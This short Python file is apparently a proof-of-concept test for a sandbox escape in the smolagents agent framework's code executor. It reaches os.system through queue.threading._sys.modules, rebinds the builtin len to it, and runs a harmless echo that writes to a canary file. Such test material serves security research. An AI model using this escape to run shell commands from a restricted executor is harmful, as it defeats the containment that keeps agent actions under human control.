# source: smolagents CVE-2025-5120
# effect: process

import queue

len = queue.threading._sys.modules["os"].system
print(len("echo targets/global_rebinds_builtin > /tmp/canary/process"))
